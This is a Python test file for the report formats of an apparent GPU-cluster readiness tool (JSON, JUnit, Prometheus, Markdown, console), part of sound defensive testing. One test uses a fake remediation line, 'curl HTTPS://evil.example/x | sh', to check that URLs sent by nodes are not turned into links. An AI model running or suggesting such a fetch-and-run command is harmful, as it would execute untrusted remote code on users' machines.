"""Reporters: JSON is the contract, JUnit parses back with the right counts, Prometheus lines
are well-formed and escaped, Markdown is a table; files are written atomically."""

from __future__ import annotations

import json
import os
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from rich.console import Console

from policies.errors import ConfigError
from validators.reports import (
    check_report_paths,
    console,
    json_report,
    junit,
    markdown,
    prometheus,
    write_reports,
)
from validators.reports.atomic import write_atomic
from validators.reports.common import verdict
from validators.results import CheckResult, NodeReport, Report
from validators.runner import summarize

C = CheckResult.make


def sample() -> Report:
    nodes = [
        NodeReport(name="gpu-0", host="10.0.1.10", reachable=True, duration_s=1.2, checks=[
            C("gpu.count", "pass", "8 of 8 GPUs visible", measured=8, threshold=8, unit="GPUs"),
            C("network.mtu", "fail", 'MTU 1400 on "eth0" | below 9000\nsecond line', measured=1400, threshold=9000,
              unit="bytes", remediation="ip link set eth0 mtu 9001"),
            C("storage.disk_throughput", "warn", "1020 MB/s, 2% above the floor", measured=1020.5, threshold=1000, unit="MB/s"),
            C("network.bandwidth", "skip", "pairwise network tests not run"),
        ]),
        NodeReport(name="gpu-1", host="10.0.1.11", reachable=False, checks=[
            C("gpu.count", "error", "unreachable: 10.0.1.11:22: connection refused", threshold=1, unit="GPUs"),
        ]),
    ]
    fleet = [C("storage.bucket_posture", "fail", "versioning is Suspended on acme-raw", measured=False, threshold=True)]
    return Report(summary=summarize(nodes, fleet), profile="distributed_training", nodes=nodes, fleet=fleet,
                  started_at="2025-01-01T00:00:00+00:00", duration_s=3.5)


def test_json_is_the_contract_and_round_trips() -> None:
    report = sample()
    data = json.loads(json_report.render(report))
    assert set(data["summary"]) >= {"nodes", "passed", "failed", "errors", "score"}
    assert (data["summary"]["nodes"], data["summary"]["passed"], data["summary"]["failed"], data["summary"]["errors"]) == (2, 1, 2, 1)
    assert data["profile"] == "distributed_training"
    node = data["nodes"][0]
    assert set(node) >= {"name", "host", "reachable", "checks"}
    assert set(node["checks"][0]) == {"id", "pillar", "status", "measured", "threshold", "unit", "message", "remediation"}
    assert Report.model_validate(data) == report


def test_junit_parses_back_with_counts_per_node() -> None:
    root = ET.fromstring(junit.render(sample()))
    assert root.tag == "testsuites"
    assert (root.get("tests"), root.get("failures"), root.get("errors"), root.get("skipped")) == ("6", "2", "1", "1")
    suites = {s.get("name"): s for s in root.iter("testsuite")}
    assert list(suites) == ["gpu-0", "gpu-1", "fleet"]
    g0 = suites["gpu-0"]
    assert (g0.get("tests"), g0.get("failures"), g0.get("errors"), g0.get("skipped")) == ("4", "1", "0", "1")
    cases = {c.get("name"): c for c in g0.iter("testcase")}
    failure = cases["network.mtu"].find("failure")
    assert failure is not None and failure.get("message", "").startswith('MTU 1400 on "eth0"')
    assert "ip link set eth0 mtu 9001" in (failure.text or "")
    assert cases["gpu.count"].find("failure") is None and cases["gpu.count"].find("error") is None
    assert cases["network.bandwidth"].find("skipped") is not None
    assert "WARNING" in (cases["storage.disk_throughput"].findtext("system-out") or "")
    err = suites["gpu-1"].find("testcase/error")
    assert err is not None and "connection refused" in err.get("message", "")


LINE = re.compile(r'^[a-z_]+(\{([a-z_]+="(\\.|[^"\\])*",?)*\})? (-?[0-9.e+]+|NaN|[+-]Inf)$')


def test_prometheus_textfile_format() -> None:
    text = prometheus.render(sample(), now=1700000000.0)
    lines = text.splitlines()
    families = [ln.split()[2] for ln in lines if ln.startswith("# TYPE")]
    for fam in families:  # HELP then TYPE before the samples, once per family
        assert lines.index(f"# TYPE {fam} gauge") == lines.index(next(ln for ln in lines if ln.startswith(f"# HELP {fam} "))) + 1
    assert len(families) == len(set(families))
    for ln in lines:
        assert ln.startswith("# ") or LINE.match(ln), ln
    assert 'plinth_check_status{node="gpu-0",check="network.mtu",pillar="network",status="fail"} 1' in lines
    assert 'plinth_check_status{node="gpu-0",check="network.mtu",pillar="network",status="pass"} 0' in lines
    assert 'plinth_check_measured{node="gpu-0",check="storage.disk_throughput",unit="MB/s"} 1020.5' in lines
    assert 'plinth_node_reachable{node="gpu-1"} 0' in lines
    assert re.search(r'^plinth_readiness_score\{profile="distributed_training"\} [0-9.]+$', text, re.MULTILINE)
    assert text.endswith("\n")
    assert prometheus.escape('a"b\\c\nd') == 'a\\"b\\\\c\\nd'


def test_markdown_summary_table() -> None:
    md = markdown.render(sample())
    assert "## plinth validate — `distributed_training`" in md
    assert "| gpu-1 | 10.0.1.11 | **no** | 0 | 0 | 0 | 1 | 0 |" in md
    attention = md.split("### Needs attention")[1].split("<details>")[0]
    rows = [r for r in attention.splitlines() if r.startswith(("| gpu", "| fleet"))]
    assert [r.split("|")[2].strip() for r in rows] == ["`network.mtu`", "`storage.bucket_posture`", "`gpu.count`",
                                                        "`storage.disk_throughput`"]
    assert 'MTU 1400 on "eth0" \\| below 9000<br>second line' in md  # pipes and newlines cannot break the table


def test_markdown_never_makes_a_link_of_a_url_a_node_sent() -> None:
    """GitHub renders the step summary with cmark-gfm, whose autolink extension turns a bare
    https://… or www.… in text into a link: a node could put a clickable "fix" of its choosing in
    CI. Escaped as ``https\\://`` and ``www\\.`` the text shows the same and links nowhere (checked
    against cmark-gfm); a remediation line is no exception."""
    bad = C("gpu.model", "fail", "driver broken: get the fix at https://evil.example/fix.sh or www.evil.example",
            remediation="curl HTTPS://evil.example/x | sh")
    report = sample()
    nodes = [report.nodes[0].model_copy(update={"checks": [*report.nodes[0].checks, bad]}), *report.nodes[1:]]
    md = markdown.render(report.model_copy(update={"nodes": nodes}))
    assert "https\\://evil.example/fix.sh" in md and "www\\.evil.example" in md
    assert re.search(r"(?i)https?://|www\.", md) is None, "a bare URL GitHub would autolink"


def test_console_names_verdict_and_remediation() -> None:
    con = Console(width=200, record=True)
    console.render(sample(), con)
    text = con.export_text()
    assert "gpu-1 (10.0.1.11) unreachable: 10.0.1.11:22: connection refused" in text.splitlines()  # one line, the reason
    assert "  gpu-1  ok=0 warn=0 failed=0 error=1 skipped=0 unreachable=1" in text.splitlines()  # the recap
    assert "ip link set eth0 mtu 9001" in text
    assert re.search(r"readiness score \d+/100: (urgent action required|modernisation needed|good foundation)", text)


@pytest.mark.parametrize(("score", "words"), [(0, "urgent action required"), (49.9, "urgent action required"),
                                              (50, "modernisation needed"), (74.9, "modernisation needed"),
                                              (75, "good foundation"), (100, "good foundation")])
def test_verdict_bands(score: float, words: str) -> None:
    assert verdict(score) == words


def test_atomic_write_leaves_no_partial_file(tmp_path: Path) -> None:
    target = tmp_path / "r.json"
    target.write_text("old complete report")

    def boom(fh: object) -> None:
        fh.write("half a rep")  # type: ignore[attr-defined]
        raise RuntimeError("renderer crashed")

    with pytest.raises(RuntimeError):
        write_atomic(target, boom)
    assert target.read_text() == "old complete report"
    assert os.listdir(tmp_path) == ["r.json"]  # no temp file left behind


def test_write_reports_mode_and_every_format(tmp_path: Path) -> None:
    paths = {k: tmp_path / f"r.{k}" for k in ("json", "junit", "markdown", "prometheus")}
    assert write_reports(sample(), paths) == []
    for p in paths.values():
        assert p.stat().st_mode & 0o777 == 0o644 and p.read_text()


def test_report_paths_are_checked_before_the_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ConfigError, match=r"^--json out/r.json: directory does not exist$"):
        check_report_paths({"json": Path("out/r.json")})
    with pytest.raises(ConfigError, match="is a directory"):
        check_report_paths({"junit": tmp_path})
    check_report_paths({"json": tmp_path / "ok.json", "junit": None})
